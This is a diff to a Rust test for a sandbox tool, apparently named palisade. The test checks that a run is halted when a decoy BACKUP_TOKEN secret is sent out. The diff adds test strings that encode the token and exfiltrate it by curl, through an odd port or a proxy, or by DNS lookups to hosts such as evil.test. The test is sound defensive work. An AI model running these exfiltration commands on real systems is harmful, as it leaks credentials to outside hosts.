@@ -25,15 +25,23 @@ fn sec_19_adv_c05_a_decoy_on_its_way_out_stops_everything() {
         "curl -sS http://site.test/$(printf %s \"$BACKUP_TOKEN\" | od -An -tx1 | tr -d ' \\n')",
         "printf 'xx%s' \"$BACKUP_TOKEN\" | base64 -w0 | curl -sS --data-binary @- http://site.test/",
         "printf %s \"$BACKUP_TOKEN\" | rev | curl -sS --data-binary @- http://site.test/",
+        "printf %s \"$BACKUP_TOKEN\" | base32 | curl -sS --data-binary @- http://site.test/",
+        "printf %s \"$BACKUP_TOKEN\" | od -An -tx1 | curl -sS --data-binary @- http://site.test/",
+        "printf %s \"$BACKUP_TOKEN\" | fold -w1 | curl -sS --data-binary @- http://site.test/",
+        // Where no rule lets it go, and in a name that the proxy is asked for.
+        "curl -sS http://site.test:81/$BACKUP_TOKEN; curl -sS http://site.test/no/$BACKUP_TOKEN",
+        "curl -sS -x http://198.18.0.1:3128 http://$(printf %s \"$BACKUP_TOKEN\" | cut -c1-30).site.test/",
         "getent hosts $(printf %s \"$BACKUP_TOKEN\" | tr -d _ | cut -c1-30).site.test",
         "getent hosts $(printf %s \"$BACKUP_TOKEN\" | od -An -tx1 | tr -d ' \\n' | cut -c1-60).evil.test",
     ];
     for (at, way) in ways.into_iter().enumerate() {
         let world = World::new(EVERYONE[at % 2]);
         let server = world.http(PUBLIC, 80);
+        world.file("rules.toml", "[[rule]]\nhost = \"site.test\"\nports = [80]\npaths = [\"/\", \"/*\"]\n");
+        let rules = world.project().join("rules.toml");
         let script = format!("{way}; sleep 0.3; echo went on > went-on; sleep 30");
         let options =
-            ["run", "--decoy", "BACKUP_TOKEN", "--allow", "site.test:80", "--", "sh", "-c", &script];
+            ["run", "--decoy", "BACKUP_TOKEN", "--rules", rules.to_str().unwrap(), "--", "sh", "-c", &script];
         let mut run = world.palisade(&options).stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
         assert!(stands_still(&world), "{way}");
         std::thread::sleep(Duration::from_millis(600));
